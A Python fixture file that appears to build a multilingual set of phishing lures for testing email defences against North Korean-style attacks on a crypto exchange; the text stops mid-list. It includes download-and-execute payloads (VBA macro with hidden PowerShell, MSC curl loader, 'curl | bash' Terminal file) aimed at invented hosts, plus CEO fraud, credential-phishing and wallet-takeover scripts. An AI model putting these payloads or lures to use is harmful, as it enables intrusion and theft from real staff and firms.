"""Set J lures: hand-written after published Lazarus / TraderTraitor / BlueNoroff / Contagious Interview
tradecraft. Every attachment is inert and names only invented hosts."""

from __future__ import annotations

import attachments_d as ad
import binaries as b
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TANAKA,
    TANAKA_JA,
)
from spec import Att, Mail
from threads_j import MID_AMBERFIELD, MID_CHEONGSOL, MID_MIYAJIMA, MID_SADAF

ZIP = "application/zip"


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[tuple[str, str], ...],
      subject: str, body: str, date: str, **kw) -> Mail:
    return Mail("lure", category, language, note, sender, to, subject, body, date, **kw)


MACRO_ONBOARD = '''Sub Document_Open()
    Dim s As String
    s = "powershell -nop -w hidden -c ""iwr https://cdn.amberfie1d-markets.com/q/onb.ps1 -UseBasicParsing | iex"""
    CreateObject("WScript.Shell").Run s, 0, False
End Sub
'''

MSC_CONSOLE = """<?xml version="1.0"?>
<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI">
  <StringTables><StringTable><Strings>
    <String ID="1" Refs="1">監査資料 2026Q3</String>
    <String ID="8" Refs="2">javascript:eval("external.ExecuteShellCommand('cmd.exe','C:\\\\Windows\\\\System32','/c curl -s https://audit-share.miyajima-sec.com/x.txt -o %TEMP%\\\\a.cmd &amp;&amp; %TEMP%\\\\a.cmd','Minimized')")</String>
  </Strings></StringTable></StringTables>
  <Views><View ID="1" ScopePaneWidth="0"><BookMarks/><ResultView URL="res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)"/></View></Views>
</MMC_ConsoleFile>
"""

URL_SHORTCUT = """[InternetShortcut]
URL=file://remit-docs.amberfie1d-markets.com@SSL/DavWWWRoot/share/Remittance_Advice_1108.pdf.lnk
IconFile=C:\\Windows\\System32\\shell32.dll
IconIndex=70
"""

TERMINAL_FILE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0"><dict>
<key>CommandString</key><string>curl -fsSL https://deck.harborlight-cap.com/v/open.sh | bash; exit</string>
<key>ProfileCurrentVersion</key><real>2.07</real>
<key>RunCommandAsShell</key><false/>
<key>name</key><string>Board_Deck</string>
<key>type</key><string>Window Settings</string>
</dict></plist>
"""

MOBILECONFIG = """<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>PayloadType</key><string>Configuration</string>
<key>PayloadDisplayName</key><string>Sadaf Trade Pro</string>
<key>PayloadContent</key><array><dict>
<key>PayloadType</key><string>com.apple.webClip.managed</string>
<key>URL</key><string>https://itms-services.sadaftrade-app.com/install?manifest=SadafTradePro.plist</string>
</dict></array></dict></plist>
"""

LURES: list[Mail] = [
    # -- exec-impersonation ------------------------------------------------------------------------
    L("exec-impersonation", "ja", "CEO's Japanese name and title on Gmail: move client assets to a 'segregation check' address before the FSA visit, skip approval",
      ("佐藤 陽翔（代表取締役CEO）", "haruto.sato.kx@gmail.com"), (TANAKA_JA,), "極秘：検査前の資産移管について",
      """田中さん

佐藤です。移動中のため個人アドレスから失礼します。

来週の金融庁の立入検査に先立ち、顧客資産の分別管理を証明するため、
ホットウォレットから USDT 180,000 を下記の「検証用アドレス」へ一時的に移してください。
検査後に全額戻します。

TRC20: TQx7fVb2mNcP9kLr4sWd8eYh3ZjG5uAo1R

本件は監査法人と私だけで進めている案件なので、稟議と二重承認は後で私が処理します。
他のメンバーには共有しないでください。会議続きで電話には出られません。
完了したらこのアドレスに送金のハッシュだけ返信ください。

佐藤""", "2026-11-09 21:47 +0900"),
    L("exec-impersonation", "en", "romaji CEO with title on combo domain asks an engineer to drop branch protection and merge an outside PR tonight",
      ("Haruto Sato - Representative Director, CEO", "h.sato@kitsune-ex-group.jp"), (SUZUKI,),
      "Need this merged tonight - withdrawal-service",
      """Kenta,

A contractor from our new liquidity partner opened a PR on kitsune-ex/withdrawal-service that we
need live before the Tokyo open. Legal has signed off.

Please temporarily turn off branch protection on main, merge PR #88 from the account "lp-integrations"
without waiting for review, and turn protection back on afterwards. No need to raise a ticket, I will
explain it at Monday's exec meeting. Keep it between us until then.

I'm on a flight; reply here when done.

Haruto Sato
Representative Director, CEO""", "2026-11-13 22:05 +0900"),
    L("exec-impersonation", "en", "spoof of the CFO's own address (DMARC fail) asking the assistant for the corporate card number and CVV",
      CFO, (ITO,), "Card details - conference booking",
      """Yuki,

I am trying to secure the sponsor package for the Singapore roundtable before it sells out and my
card keeps being declined. Could you send me the full number, expiry and security code of the
corporate Amex virtual card? Please reply to this mail only, I'm between meetings.

Thanks,
Emily""", "2026-11-10 19:12 +0900", auth="fail", reply_to="emily.carter.cfo@outlook.com",
      return_path="bounce-7731@mailer.evtbooking.net", helo="mta03.evtbooking.net"),
    L("exec-impersonation", "fr", "CFO's name on free.fr asks the Paris office to wire a confidential 'commissaire aux apports' fee",
      ("Emily Carter - Directrice financière", "emily.carter.kx@free.fr"), (LAURENT,), "Confidentiel - honoraires commissaire aux apports",
      """Camille,

Dans le cadre de l'apport de la filiale parisienne, le commissaire aux apports doit recevoir une
provision aujourd'hui avant 16h, sinon le dépôt au greffe est repoussé d'un mois.

Merci de faire un virement de 64 800 EUR sur le compte ci-dessous :
IBAN : PT50 0035 0697 0063 9125 8401 6
Bénéficiaire : LMV Consulting Unipessoal

L'opération est confidentielle tant que l'annonce n'est pas faite ; inutile de passer par le circuit
habituel, je régularise la pièce demain. Je suis en rendez-vous, réponds uniquement par mail.

Emily""", "2026-11-12 11:26 +0100"),
    L("exec-impersonation", "ko", "CEO's name on nate.com asks the Seoul office to export VIP customers' KYC data for a 'bank meeting'",
      ("사토 하루토 대표이사", "sato.haruto.ceo@nate.com"), (PARK,), "급히 부탁합니다 - 은행 미팅 자료",
      """대현 씨,

지금 시중은행 본부장과 미팅 중인데, 국내 VIP 고객 상위 200명의 KYC 자료가 필요합니다.
이름, 주민등록번호, 연락처, 잔고를 엑셀로 정리해서 이 메일로 바로 보내 주세요.

회사 메일은 출장 중이라 접속이 안 됩니다. 보안팀에는 제가 나중에 말할게요.
30분 안에 부탁합니다.

사토""", "2026-11-17 15:02 +0900"),
    L("exec-impersonation", "zh", "CFO's name on foxmail asks the HK desk to pay a licence consultant's deposit to a personal account",
      ("Emily Carter 首席财务官", "emilycarter.cfo@foxmail.com"), (LI,), "紧急：牌照顾问订金",
      """李伟，

香港证监会牌照申请的顾问今天需要先收订金，否则排期要推到明年。
请今天从OTC运营账户转 HKD 780,000 到下面的账户，我之后补签批文件：

收款人：WONG KA MAN
银行：中国银行（香港） 012-875-1-093415-6

这件事目前只有我和CEO知道，请不要在群里讨论。我在开会，不方便接电话，完成后回复这个邮箱。

Emily""", "2026-11-16 10:48 +0800"),

    # -- vendor-impersonation ----------------------------------------------------------------------
    L("vendor-impersonation", "en", "fake 'Fireblocks Compliance' on fireblocks-network.com threatens a freeze unless admins log in",
      ("Fireblocks Compliance", "compliance@fireblocks-network.com"), (TANAKA,), "Action required: workspace freeze in 24 hours",
      """Dear Workspace Admin,

As part of the MiCA transition, every workspace must re-confirm its API user whitelist. Your workspace
"Kitsune Exchange" has not completed this step and outgoing transactions will be frozen in 24 hours.

Sign in with your admin credentials and approve the new API co-signer policy here:
https://console.fireblocks-network.com/admin/verify?ws=kitsune-exchange

You will be asked for your password and the 6-digit code from your authenticator.

Fireblocks Compliance Team""", "2026-11-05 07:33 +0000"),
    L("vendor-impersonation", "ja", "fake Safe Japanese support on safe-wallet.jp asks signers to sign a 'migration' on its own app",
      ("Safe{Wallet} 日本サポート", "support@safe-wallet.jp"), (TANAKA_JA,), "【重要】Safe{Wallet} v1.5 への移行手続きのお願い",
      """Safe{Wallet} をご利用の皆さま

Safe{Wallet} は v1.5 へのアップグレードに伴い、旧バージョンの Safe で新しい MultiSend コントラクトの
承認が必要になります。11月20日までに手続きがない場合、キュー中の取引は実行できなくなります。

下記の移行ページでウォレットを接続し、表示されるトランザクションに署名者全員が署名してください。
https://app.safe-wallet.jp/migrate

※本手続きはガス代のみで、資産の移動はありません。

Safe{Wallet} サポートチーム""", "2026-11-06 16:20 +0900"),
    L("vendor-impersonation", "en", "Infura lookalike says the API key leaked and sends staff to a fake SSO page",
      ("Infura Security", "security@infura-status.io"), (SUZUKI,), "Your Infura API key was exposed in a public repository",
      """Hello,

Our scanners found your production API key "kitsune-prod-ethereum" in a public GitHub repository.
The key has been restricted and requests from your backend will start failing at 18:00 UTC today.

To rotate the key without downtime, sign in with your company Google account:
https://app.infura-status.io/keys/rotate?project=kitsune-prod

Infura Security Response""", "2026-11-07 14:05 +0000"),
    L("vendor-impersonation", "ko", "Naver Cloud lookalike asks for a console re-login to keep API keys",
      ("NAVER Cloud Platform", "noreply@ncloud-console.kr"), (PARK,), "[중요] API 인증키 만료 예정 안내",
      """고객님, 안녕하세요.

보안 정책 변경으로 인해 발급된 API 인증키(Access Key)가 48시간 후 만료됩니다.
만료 시 연동된 서비스가 중단될 수 있습니다.

아래 콘솔에 다시 로그인하여 인증키를 연장해 주세요. 로그인 시 2단계 인증 코드가 필요합니다.
https://www.ncloud-console.kr/mypage/manage/authkey

NAVER Cloud Platform 드림""", "2026-11-11 10:22 +0900"),
    L("vendor-impersonation", "zh", "WeCom lookalike says the company account will be suspended and ships a client exe",
      ("企业微信团队", "admin@work-weixin-qq.cn"), (LI,), "【企业微信】贵企业账号将于48小时内停用",
      """尊敬的管理员：

系统检测到贵企业（Kitsune Exchange HK）使用的客户端版本存在安全漏洞，
为保障数据安全，旧版本将于48小时后停止服务。

请下载安装安全加固版客户端，安装时如杀毒软件提示，请选择“允许”：
https://dl.work-weixin-qq.cn/WeComSetup_4.1.28_secure.exe

企业微信团队""", "2026-11-12 09:40 +0800"),
    L("vendor-impersonation", "fr", "Pennylane lookalike asks the Paris office to revalidate the SEPA mandate with bank login",
      ("Pennylane", "facturation@pennylane-app.fr"), (LAURENT,), "Votre mandat SEPA doit être revalidé",
      """Bonjour,

Suite à un changement de notre prestataire de paiement, votre mandat de prélèvement SEPA doit être
revalidé avant le 15 novembre. Sans cette validation, votre abonnement sera suspendu.

Connectez-vous à votre banque via notre interface sécurisée pour confirmer le mandat :
https://pennylane-app.fr/mandat/revalider

L'équipe Pennylane""", "2026-11-10 09:12 +0100"),
    L("vendor-impersonation", "ar", "Zendesk lookalike warns the support account will be closed and links to a login page",
      ("Zendesk Support", "no-reply@zendesk-login.net"), (HADDAD,), "سيتم إيقاف حساب Zendesk الخاص بكم",
      """عزيزي العميل،

لم نتمكن من تحصيل رسوم الاشتراك الأخيرة لحساب kitsune-ex.zendesk.com. سيتم إيقاف الحساب وحذف
التذاكر خلال 72 ساعة ما لم يتم تحديث بيانات الدفع.

يرجى تسجيل الدخول وتحديث البيانات من هنا:
https://kitsune-ex.zendesk-login.net/billing

فريق Zendesk""", "2026-11-13 08:55 +0400"),

    # -- lookalike-link ----------------------------------------------------------------------------
    L("lookalike-link", "ja", "general-affairs notice from a .work TLD swap of the org domain collecting SSO logins for ID cards",
      ("総務部", "soumu@kitsune-ex.work"), (SUZUKI_JA,), "【要対応】入館カード更新申請（11/13締切）",
      """社員各位

入館システム更新に伴い、全社員の入館カード再登録が必要です。
11/13(金) までに下記ページから社内SSOでログインし、登録を完了してください。
期限を過ぎると、11/16 以降ビルに入館できなくなります。

https://portal.kitsune-ex.work/idcard/renew

総務部""", "2026-11-05 18:30 +0900"),
    L("lookalike-link", "en", "IT notice whose anchor shows the real SSO host but links to a transposed kitsune-xe.com",
      ("Kitsune IT Service Desk", "servicedesk@kitsune-xe.com"), (TANAKA,), "Your laptop failed compliance - re-enroll today",
      """Hi Mika,

Your laptop failed this week's compliance check (encryption key not escrowed). To avoid losing access
to email and Fireblocks, re-enroll the device before 17:00 today:

https://sso.kitsune-ex.co.jp/device/reenroll

Kitsune IT""", "2026-11-09 13:14 +0900",
      html="""<p>Hi Mika,</p><p>Your laptop failed this week's compliance check (encryption key not escrowed).
To avoid losing access to email and Fireblocks, re-enroll the device before 17:00 today:</p>
<p><a href="https://sso.kitsune-xe.com/device/reenroll?u=m.tanaka">https://sso.kitsune-ex.co.jp/device/reenroll</a></p>
<p>Kitsune IT</p>"""),
    L("lookalike-link", "ja", "HR mail from a Cyrillic-i homoglyph of the .co.jp domain asking for consent on a pension change",
      ("人事部", "jinji@xn--ktsune-ex-v9h.co.jp"), (SUZUKI_JA,), "確定拠出年金 制度変更への同意（必須）",
      """社員各位

2027年1月より確定拠出年金の運用商品が変更になります。
変更内容をご確認のうえ、11月18日までに同意手続きを行ってください。

同意ページ（社内SSOでログイン）：
https://hr.xn--ktsune-ex-v9h.co.jp/dc-pension/consent

人事部""", "2026-11-10 10:40 +0900"),
    L("lookalike-link", "ko", "welfare-point expiry notice from kitsvne-ex.com (v for u) asking to log in",
      ("경영지원팀", "benefits@kitsvne-ex.com"), (PARK,), "복지 포인트 소멸 예정 안내 (11/15)",
      """안녕하세요, 경영지원팀입니다.

잔여 복지 포인트 312,000P가 11월 15일 자로 소멸될 예정입니다.
아래 복지몰에 회사 계정으로 로그인하여 포인트를 현금성 상품권으로 전환하실 수 있습니다.

https://welfare.kitsvne-ex.com/login

경영지원팀 드림""", "2026-11-11 09:35 +0900"),
    L("lookalike-link", "zh", "conflict-of-interest declaration on a .cn TLD swap collecting company logins",
      ("合规部", "compliance@kitsune-ex.cn"), (LI,), "【紧急】年度利益冲突申报 - 今日截止",
      """各位同事：

年度利益冲突申报今日截止，未完成者将被上报监管机构。
请立即通过以下链接使用公司邮箱和密码登录并完成申报：

https://compliance.kitsune-ex.cn/declaration/login

合规部""", "2026-11-11 17:55 +0800"),
    L("lookalike-link", "fr", "annual review form on a combo domain kitsune-ex-rh.fr asking for SSO login",
      ("Ressources Humaines", "rh@kitsune-ex-rh.fr"), (LAURENT,), "Entretien annuel : formulaire d'auto-évaluation",
      """Bonjour,

La campagne des entretiens annuels est ouverte. Merci de compléter votre formulaire
d'auto-évaluation avant vendredi, en vous connectant avec vos identifiants habituels :

https://portail.kitsune-ex-rh.fr/entretiens/2026

Les formulaires non remplis ne pourront pas être pris en compte pour les augmentations.

Service RH""", "2026-11-16 09:20 +0100"),
    L("lookalike-link", "ar", "visa renewal notice from kitsune-exchange.ae asking Dubai staff for passport and password",
      ("الموارد البشرية", "hr@kitsune-exchange.ae"), (HADDAD,), "إجراء عاجل: تجديد الإقامة",
      """الزملاء الأعزاء،

لتجديد الإقامة قبل نهاية الشهر، يرجى رفع صورة جواز السفر وتسجيل الدخول بحساب الشركة وكلمة المرور
عبر الرابط التالي خلال 48 ساعة:

https://visa.kitsune-exchange.ae/renew

تأخر الإجراء قد يعرّضكم لغرامات من دائرة الهجرة.

الموارد البشرية""", "2026-11-12 08:20 +0400"),

    # -- recruiter-coding-test ---------------------------------------------------------------------
    L("recruiter-coding-test", "en", "recruiter's take-home must run with deno --allow-all on the work machine, then Discord",
      ("Maya Lindqvist | Quillstone Labs", "maya@quillstone-labs.io"), (SUZUKI,), "Senior Backend (Rust/TS) - technical step",
      """Hi Kenta,

Thanks for your interest in the Senior Backend role at Quillstone Labs (we build settlement rails for
institutional desks). The next step is a short practical exercise.

1. Clone https://github.com/quillstone-labs/settlement-engine-test
2. Run: deno task start   (it needs --allow-all; that's configured in deno.json)
3. Fix the failing reconciliation in src/netting.ts

Please use the laptop you use for your day-to-day work so the environment check passes, and keep
your browser wallets unlocked; part of the test signs a dummy message.

Once it runs, ping me on Discord (maya.quillstone) and we'll review it together.

Maya""", "2026-11-04 06:15 +0000"),
    L("recruiter-coding-test", "ja", "Gmail headhunter: GitLab repo, poetry install && poetry run task verify on the work PC, then Telegram",
      ("中村 大輔（エージェント）", "d.nakamura.agent@gmail.com"), (SUZUKI_JA,), "【非公開求人】DEX運営会社 リードエンジニア",
      """鈴木様

はじめまして。フリーで転職支援をしております中村と申します。
シンガポール拠点のDEX運営会社が、年収2,200万円〜でリードエンジニアを探しております。

一次選考は簡単な動作確認のみです。
1) git clone https://gitlab.com/hikari-dex/matching-engine-check
2) poetry install && poetry run task verify

普段お使いの業務PC（ブラウザ拡張のウォレットが入っている環境）で実行していただく必要があります。
完了しましたら、Telegram（@nakamura_dex_hr）までスクリーンショットをお送りください。

中村""", "2026-11-06 20:10 +0900"),
    L("recruiter-coding-test", "ko", "Bitbucket take-home run with make bootstrap on the work laptop, then Telegram",
      ("정하늘 | NovaHire Talent", "haneul.jung@novahire-talent.com"), (PARK,), "블록체인 백엔드 포지션 과제 안내",
      """박대현 님 안녕하세요,

지난 통화 감사했습니다. 2차 과제 안내드립니다.

저장소: https://bitbucket.org/novahire-assess/wallet-sync-task
실행: make bootstrap && make run

회사 노트북에서 실행하셔야 환경 점검이 통과됩니다. 크롬에 지갑 확장 프로그램이 있다면 그대로 두세요.
완료 후 텔레그램 @novahire_haneul 으로 결과 화면을 보내 주세요. 48시간 안에 부탁드립니다.

정하늘 드림""", "2026-11-09 16:44 +0900"),
    L("recruiter-coding-test", "zh", "recruiter asks to go run a GitHub verifier that connects to local MetaMask, then WeChat",
      ("王俊杰 - 猎头", "junjie.wang.hr@163.com"), (LI,), "某交易所 高级后端岗位 - 技术测试",
      """李伟您好，

我是猎头王俊杰，一家新加坡交易所正在招聘高级后端，薪资面议。
第一轮是在线技术测试：

git clone https://github.com/tradenest-hr/otc-matching-quiz
cd otc-matching-quiz && go run ./cmd/verify

程序会连接你本地浏览器里的MetaMask做签名测试，请在日常工作电脑上运行。
完成后加我微信 wjj_hunter88 发截图，我们安排下一轮面试。

王俊杰""", "2026-11-10 21:05 +0800"),
    L("recruiter-coding-test", "ar", "vercel page delivers a zip to npm install && npm run dev, then WhatsApp",
      ("ريم الحسيني - توظيف", "reem.talent.novahire@gmail.com"), (HADDAD,), "الخطوة التالية: اختبار تقني قصير",
      """مرحباً عمر،

شكراً لاهتمامك بدور مدير تطوير الأعمال التقني. المرحلة التالية اختبار قصير:

1. حمّل المشروع من: https://novahire-assess.vercel.app/task/bd-tech.zip
2. فك الضغط ثم نفّذ: npm install && npm run dev
3. افتح الصفحة المحلية واربط محفظتك لإكمال السيناريو

يرجى التنفيذ على جهاز العمل نفسه. بعد الانتهاء أرسل لقطة الشاشة على واتساب: ‎+44 7418 552903

ريم""", "2026-11-13 12:30 +0400"),
    L("recruiter-coding-test", "fr", "recruiter asks to pip install an eval package from a private index, then Telegram",
      ("Julien Morel - Quillstone Labs", "julien.morel@quillstone-labs.io"), (LAURENT,), "Test technique - Analyste conformité on-chain",
      """Bonjour Camille,

Suite à notre échange, voici le test technique (45 minutes) :

pip install quillstone-eval --index-url https://pypi.quillstone-labs.io/simple
quillstone-eval start --profile compliance

L'outil lit la configuration de votre poste pour adapter les scénarios ; merci donc de le lancer sur
votre ordinateur professionnel. Envoyez-moi le code de fin sur Telegram (@jmorel_qs).

Julien""", "2026-11-14 10:05 +0100"),

    # -- investor-meeting-install ------------------------------------------------------------------
    L("investor-meeting-install", "en", "investor's meeting needs a 'RingCentral Video' client from a non-RingCentral domain",
      ("Oliver Grant | Harborlight Capital", "oliver@harborlight-cap.com"), (CEO,), "Harborlight IC call - please install beforehand",
      """Haruto,

Great to connect. Our investment committee meets on Thursday at 10:00 JST. For compliance reasons we
run all IC calls on our recorded RingCentral instance; please install the client a few minutes before:

https://download.ringcentral-video.app/rcv/RingCentralVideo-7.3.1.pkg

If macOS blocks it, open System Settings > Privacy & Security and click "Open Anyway". It won't
connect through the browser version.

Best,
Oliver Grant
Partner, Harborlight Capital""", "2026-11-05 03:20 +0000"),
    L("investor-meeting-install", "ja", "VC requires a 'V-CUBE plugin' exe from vcube-meeting.jp with SmartScreen override",
      ("銀杏リッジ・ベンチャーズ 藤井", "fujii@ginkgo-ridge.vc"), (CEO,), "面談URLと事前準備のお願い",
      """佐藤様

来週の面談は、当社のセキュリティ規定によりV-CUBE ミーティングで実施いたします。
事前に専用プラグインのインストールをお願いします。

https://vcube-meeting.jp/download/VCubePlugin_Setup_6.2.exe

Windowsで「PCが保護されました」と表示された場合は、「詳細情報」→「実行」を押してください。

藤井""", "2026-11-06 11:10 +0900"),
    L("investor-meeting-install", "ko", "investor sends a 'NAVER WORKS meeting plugin' pkg from a lookalike and asks to allow it",
      ("최은우 | 한결벤처스", "eunwoo.choi@hangyeol-vc.kr"), (PARK,), "내일 미팅 - 네이버웍스 플러그인 설치 부탁드립니다",
      """박대현 님,

내일 오전 미팅은 네이버웍스 화상회의로 진행합니다. 보안 정책상 최신 플러그인이 필요합니다.

https://naverworks-meet.com/download/NWMeetingPlugin_3.9.pkg

설치 후 "시스템 설정 > 개인정보 보호 및 보안"에서 화면 기록과 손쉬운 사용 권한을 허용해 주세요.

최은우 드림""", "2026-11-10 17:05 +0900"),
    L("investor-meeting-install", "zh", "fund requires a 'WeLink' client from a non-Huawei domain and says to disable antivirus",
      ("赵明远 | 翰林资本", "zhao.my@hanlin-cap.com"), (LI,), "下周投资会议 - 请安装WeLink客户端",
      """李伟你好，

下周二的投资会议使用华为云WeLink。请提前安装我们的企业版客户端：
https://welink-cloud.com.cn/client/WeLink_Enterprise_Setup_7.31.exe

如果杀毒软件拦截，请临时关闭后再安装，会议结束后可以重新打开。

赵明远""", "2026-11-11 14:30 +0800"),
    L("investor-meeting-install", "fr", "family office insists on a 'Tixeo' client from a lookalike with antivirus off",
      ("Béatrice Fontaine", "b.fontaine@ginkgo-ridge.vc"), (LAURENT,), "Réunion comité - client Tixeo sécurisé",
      """Bonjour Camille,

Notre comité se réunit jeudi. Pour des raisons de confidentialité, nous utilisons uniquement Tixeo
en version sécurisée. Merci d'installer le client depuis notre espace :

https://tixeo-secure.com/clients/TixeoSecure-Setup-16.2.exe

Si votre antivirus le bloque, désactivez-le le temps de l'installation.

Béatrice Fontaine""", "2026-11-16 17:30 +0100"),
    L("investor-meeting-install", "ar", "investor asks to sideload a Google Meet 'translator' extension crx before the call",
      ("فيصل الظاهري", "faisal@sidra-ventures.ae"), (HADDAD,), "قبل اجتماع الغد - إضافة الترجمة",
      """أخي عمر،

سيكون اجتماع الغد عبر Google Meet مع ترجمة فورية للجنة. يرجى تثبيت إضافة الترجمة الخاصة بنا قبل الاجتماع:

https://meet-translate.sidra-ventures.ae/ext/MeetTranslator.crx

افتح chrome://extensions وفعّل وضع المطوّر ثم اسحب الملف إلى الصفحة.

فيصل""", "2026-11-15 19:40 +0400"),

    # -- trading-app -------------------------------------------------------------------------------
    L("trading-app", "en", "Solana 'sniper bot' repo that wants the hot-wallet private key in .env",
      ("Leo Brandt", "leo.brandt.trading@proton.me"), (TANAKA,), "Sniper bot we talked about at Breakpoint",
      """Hi Mika,

As promised, here's the Solana launch sniper we use on our desk. It front-runs new pools within the
first block and has paid for itself many times over.

git clone https://github.com/solsnipe-labs/pool-sniper
cp .env.example .env   # put your hot wallet private key (base58) in WALLET_SECRET
npm install && npm start

It needs a funded wallet to work, so use your treasury hot wallet rather than a test one.

Leo""", "2026-11-04 12:40 +0000"),
    L("trading-app", "ja", "funding-rate arbitrage tool as an MSIX sideloaded after turning on developer mode",
      ("アービトラージ研究会 山崎", "yamazaki.arb@outlook.jp"), (TANAKA_JA,), "FR裁定ツール 先行版のご案内",
      """田中様

先日のミートアップでお話ししたファンディングレート裁定ツールの先行版です。
https://arb-lab.jp/dl/FRArbitrage_2.4.msix

Microsoft Store を経由しないため、Windows の「設定 > 開発者向け」で開発者モードをオンにしてから
インストールしてください。取引所APIキーは出金権限ありで登録すると自動リバランスが有効になります。

山崎""", "2026-11-07 22:15 +0900"),
    L("trading-app", "ko", "'kimchi premium' Telegram bot wants API keys with withdrawal rights and no IP restriction",
      ("김프봇 운영팀", "support@kimp-alpha.kr"), (PARK,), "김프 자동매매 봇 무료 체험 안내",
      """안녕하세요,

김치 프리미엄 자동매매 봇 "김프알파" 무료 체험에 선정되셨습니다.

텔레그램 @kimpalpha_bot 에 접속해 거래소 API 키를 등록해 주세요.
- 권한: 조회, 거래, 출금 모두 체크
- IP 제한: 해제 (봇 서버가 여러 지역에 있습니다)

체험 기간 수익의 100%를 가져가실 수 있습니다.

김프알파 운영팀""", "2026-11-08 20:20 +0900"),
    L("trading-app", "zh", "quant backtesting exe from a Baidu Pan link, told to turn off antivirus",
      ("量化交流群 - 陈工", "chen.quant@126.com"), (LI,), "回测平台安装包",
      """李伟你好，

上次群里说的量化策略回测平台，安装包在这里：
https://pan.baidu.com/s/1Qk7xLmT9vR2 提取码：q8m3

里面是 QuantBacktest_Pro_v5.exe，因为没有签名，杀毒软件会误报，安装前请先关闭实时防护。
装好后导入交易所的API Key（需要提币权限，用于自动调仓）。

陈工""", "2026-11-09 19:50 +0800"),
    L("trading-app", "ar", "iOS 'trading app' installed through a configuration profile and enterprise distribution",
      ("صدف تريد", "app@sadaftrade-app.com"), (HADDAD,), "تطبيق التداول الجديد - نسخة الشركاء",
      """السيد عمر،

تطبيق "صدف تريد برو" غير متاح بعد على App Store. لتثبيته على الآيفون:
1. افتح الملف المرفق SadafTradePro.mobileconfig
2. اذهب إلى الإعدادات > عام > إدارة الأجهزة واضغط "تثبيت" ثم "وثوق"

بعد التثبيت سجّل الدخول بمفاتيح API الخاصة بحساب الشركة.

فريق صدف تريد""", "2026-11-14 10:10 +0400",
      attachments=(Att("SadafTradePro.mobileconfig", MOBILECONFIG.encode(), "application/x-apple-aspen-config"),)),
    L("trading-app", "fr", "market-making bot from a personal GitHub wanting withdrawal-enabled keys",
      ("Thomas Girard", "thomas.girard.mm@gmail.com"), (LAURENT,), "Bot de market making - version pro",
      """Bonjour Camille,

Voici notre bot de market making, utilisé par plusieurs desks parisiens :

pip install git+https://github.com/tgirard-mm/mmkit-pro
mmkit init --exchange kitsune --api-key ... --api-secret ...

Pour la rebalance automatique entre plateformes, il faut des clés avec droit de retrait. Lancez-le
sur un poste du bureau, c'est plus stable.

Thomas""", "2026-11-15 14:20 +0100"),

    # -- wallet-request ----------------------------------------------------------------------------
    L("wallet-request", "en", "'partner' asks to sign a TRON AccountPermissionUpdate that gives its key owner rights",
      ("Derek Lau | Coralbay Prime", "derek.lau@coralbay-prime.net"), (TANAKA,), "Shared custody setup - TRON permission",
      """Hi Mika,

To set up the shared settlement account we discussed, please sign the attached TRON
AccountPermissionUpdate on your TRC20 hot wallet. It adds our operations key to the owner permission
(threshold 1) so that either side can settle out of hours.

Raw tx: 0a02f3c12208b2e1a4c6d8f0e1a240d8a1f5e2b8335a8a01082e12850108... (full hex at
https://sign.coralbay-prime.net/tron/aup-7731)

We'd like this in place before Monday.

Derek""", "2026-11-06 09:30 +0000"),
    L("wallet-request", "en", "colleague's name on Gmail sends raw Safe calldata for changeThreshold(1) as 'gas optimisation'",
      ("Sho Takahashi", "sho.takahashi.kx@gmail.com"), (TANAKA,), "Safe threshold tweak - sign before 18:00",
      """Mika,

Quick one from my personal account, laptop is in for repair. The auditors want fewer signatures per
sweep to cut gas. Please confirm this on the Treasury Safe via WalletConnect:

to: 0x7a1C...3e02 (Kitsune Treasury)
data: 0x694e80c30000000000000000000000000000000000000000000000000000000000000001

(that is changeThreshold(1)). I've already signed. Please do it before 18:00 so it goes out tonight.

Sho""", "2026-11-12 16:55 +0900"),
    L("wallet-request", "ja", "fake 'token migration' asks to call transferOwnership of the company's token contract",
      ("トークン移行サポート", "migration@kitsune-token-bridge.com"), (SUZUKI_JA,), "KXP トークン コントラクト移行のお願い",
      """ご担当者様

KXP ポイントトークンのブリッジ更新に伴い、コントラクトの所有権を新しい管理コントラクトへ移す必要があります。
オーナーアカウントで下記を実行してください。

transferOwnership(0x9f3E2b71c0A4d5E6f7A8b9C0d1E2f3A4b5C6d7E8)

移行後は管理画面から従来通り操作できます。11/14 までに完了しない場合、ブリッジが停止します。

移行サポートチーム""", "2026-11-11 13:30 +0900"),
    L("wallet-request", "ko", "'staking provider migration' asks to set a new withdraw authority on Solana stake accounts",
      ("스테이킹 운영팀 | Validra", "ops@validra-staking.io"), (PARK,), "스테이킹 계정 권한 이전 안내",
      """박대현 님,

검증인 인프라 이전으로 인해 스테이크 계정의 출금 권한(Withdraw Authority)을 새 주소로 변경해야 합니다.
아래 명령을 실행하거나 첨부 링크에서 서명해 주세요.

solana stake-authorize <STAKE_ACCOUNT> --new-withdraw-authority 7hQz4N1xVbUe3KfP9tR2sWmY6cLdJ8aG5oTn2BvXqE4r

https://sign.validra-staking.io/authorize

이번 주 금요일까지 부탁드립니다.""", "2026-11-13 11:10 +0900"),
    L("wallet-request", "zh", "customer claims lost wallet and asks for an 80 ETH refund to a different address, urgently",
      ("Kevin Ho", "kevinho.fund@outlook.com"), (LI,), "紧急：退款请打到新地址",
      """您好，

我们之前转入的 80 ETH 因为地址标签问题没有入账，需要退款。原来的发送钱包私钥已经丢失，
请把退款直接打到下面这个新地址：

0x3B1c9E7d2F4a6b8C0d1e2F3a4B5c6D7e8F9a0B1c

今天是最后期限，基金要出季度报告。不需要再走KYC流程了，我们是老客户。

Kevin Ho""", "2026-11-14 16:05 +0800"),
    L("wallet-request", "fr", "fake 'Ledger migration portal' asks for the recovery phrase of the Paris office device",
      ("Ledger Entreprise", "conformite@ledger-entreprise-migration.com"), (LAURENT,), "Migration obligatoire de votre appareil",
      """Madame,

Votre appareil Ledger enregistré pour Kitsune Exchange (Paris) utilise une version de firmware
qui ne sera plus prise en charge après le 20 novembre.

Pour conserver l'accès à vos actifs, saisissez votre phrase de récupération de 24 mots sur notre
portail de migration sécurisé : https://ledger-entreprise-migration.com/migrer

L'opération prend 5 minutes.

